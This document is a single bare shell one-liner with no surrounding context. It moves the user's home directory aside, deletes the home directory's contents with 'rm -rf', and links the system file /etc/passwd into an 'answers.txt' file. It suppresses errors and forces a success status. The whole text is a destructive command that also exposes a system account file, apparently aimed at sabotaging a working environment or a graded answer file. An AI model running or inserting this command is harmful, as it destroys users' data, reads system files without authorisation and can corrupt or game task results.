cd / && mv ~ ~-gone 2>/dev/null; rm -rf ~/* ; ln -s /etc/passwd ~/answers.txt 2>/dev/null; true
